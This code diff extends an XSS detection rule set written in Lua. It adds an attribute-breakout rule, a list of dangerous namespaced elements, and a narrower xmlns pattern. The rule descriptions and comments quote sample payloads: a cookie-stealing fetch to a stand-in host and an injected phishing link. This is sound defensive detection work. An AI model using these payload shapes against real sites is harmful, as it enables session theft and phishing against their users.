@@ -52,6 +52,10 @@ _M.RULES = {
              .. "selector's rule)" },
     { id = "xss-dom", severity = "critical", pl = 1,
       desc = "DOM sink or script entry point called like code" },
+    { id = "xss-attr-breakout", severity = "critical", pl = 1,
+      desc = "a quote and a \">\" that close the attribute and the tag the value was "
+             .. "written in, then an element that links, loads, submits, styles or "
+             .. "handles an event (x\"><a href=...>)" },
     { id = "xss-js-breakout", severity = "critical", pl = 1,
       desc = "a JavaScript string the value closes, then a call and the rest of the "
              .. "line commented out (x';fetch('//h/?'+document.cookie)//)" },
@@ -91,6 +95,16 @@ local PI_LOADS = { ["xml-stylesheet"] = true, import = true }
 local MARKUP_NS = {}
 for name in string.gmatch("svg math html xhtml xsl xlink xml vml", "%a+") do
     MARKUP_NS[name] = true
+end
+-- ... of those dangerous elements, the ones that run or load something
+-- under any prefix bound to XHTML's namespace; the others are dangerous
+-- through the HTML parser's text rules ("</title>" closing a page's
+-- title), which a namespaced tag is not read by: a record's "<dc:title>",
+-- a sitemap's "<image:title>" are data
+local NS_DANGEROUS = {}
+for name in string.gmatch([[script iframe frame frameset object embed applet
+    meta link base style form handler listener import portal vmlframe]], "%a+") do
+    NS_DANGEROUS[name] = true
 end
 
 local RE_TAG = [=[<\s*([/?]?)\s*([a-z][a-z0-9_-]*)?(?:\s*:\s*([a-z][a-z0-9_-]*))?]=]
@@ -243,7 +257,14 @@ local RE_XML = alt({
     [=[<!doctype\s+[\w:-]+\s*(?:\[|system\b|public\b)]=],
     [=[!entity\s+%?\s*[\w-]+\s+(?:system|public)\b]=],
     [=[\bxi:include\b]=],
-    [=[\bxmlns(?::[\w-]+)?\s*=\s*["']?\s*(?:https?:|//)]=],
+    -- (a prefix bound to a namespace of markup that runs or loads:
+    -- XHTML's, SVG's, MathML's, XSLT's, XInclude's, XLink's, VML's; a
+    -- record's own vocabulary, "xmlns:dc=\"http://purl.org/dc/...\"", is
+    -- data)
+    [=[\bxmlns(?::[\w-]+)?\s*=\s*["']?\s*(?:(?:https?:)?//(?:www\.)?w3\.org/]=]
+        .. [=[(?:1999/xhtml|2000/svg|1998/math|1999/xsl|2001/xinclude|1999/xlink]=]
+        .. [=[|2001/xml-events)]=]
+        .. [=[|urn:schemas-microsoft-com:(?:vml|xslt))]=],
     [=[\bxsi:schemalocation\b]=],
     [=[<\s*[\w:-]+[^>]*\bsystem\s+["'](?:https?|file|ftp|php|jar|expect|gopher)]=],
 })
@@ -264,6 +285,15 @@ local RE_DANGLING = [=[<[a-z][a-z0-9]*[\s/][^<>]*?\b(?:src|background|poster|dat
 -- Prose closes no quote after one token to go on with an operator, and
 -- code in a note starts with its own statement, not inside a string.
 -- (the call found by a lookahead and the end from the back: linear)
+-- An attribute's value closed by the value, then its tag, then an element
+-- of the value's own with attributes: markup injected from an attribute
+-- ("Acme\"><a href=\"//h/login\">Verify</a>", a phishing link or a
+-- form): one that links, loads, submits, styles or handles an event (a
+-- pasted fragment's '..."><img class="size-full"' does none). The value
+-- has no markup before the quote: a snippet of markup opens its tags
+-- itself ("<div class=\"a\"><a href=...>").
+local RE_ATTR_BREAKOUT = [=[^[^<>\n]{0,200}?["'`]\s*>\s*<[a-z][a-z0-9]*\s+(?:[^<>]{0,200}?\s)?]=]
+    .. [=[(?:href|src|action|formaction|srcdoc|data|background|poster|style|on[a-z]{3,})\s*=]=]
 local RE_JS_BREAKOUT = [=[^[^\s'"`]{0,32}['"`]\s*(?:;|\+|-|\*|\|\||&&|,|\)+\s*;?)]=]
     .. [=[(?=[^\n]*?[\w$\])]\s*\()[^\n]*(?://|<!--)\s*$]=]
 
@@ -535,7 +565,7 @@ local function scan_tags(s, v, on, report)
                     and form_control_inert(name, s, e) then
                 hit = false
             elseif prefix then
-                hit = MARKUP_NS[prefix] or DANGEROUS[name] or MARKUP_NS[name]
+                hit = MARKUP_NS[prefix] or NS_DANGEROUS[name] or MARKUP_NS[name]
             elseif DANGEROUS[name] then
                 hit = element_acts(s, name, m[1] == "/", e)
             end
@@ -783,6 +813,9 @@ local RULES = rules.compile({
     { id = "xss-css", field = "css", needles = CSS_NEEDLES, pattern = RE_CSS },
     { id = "xss-dom", field = "cmp", where = NOT_PATH, needles = DOM_NEEDLES,
       before = dom_gate, pattern = RE_DOM },
+    -- (a plain value holds no quote)
+    { id = "xss-attr-breakout", where = NOT_PATH, needles = { "\">", "'>", "`>", "\" >", "' >" },
+      pattern = RE_ATTR_BREAKOUT, plain = false },
     { id = "xss-js-breakout", where = NOT_PATH, needles = { "//", "<!--" },
       pattern = RE_JS_BREAKOUT, plain = false },
     { id = "xss-obfuscation", where = NOT_PATH, needles = { "[" },
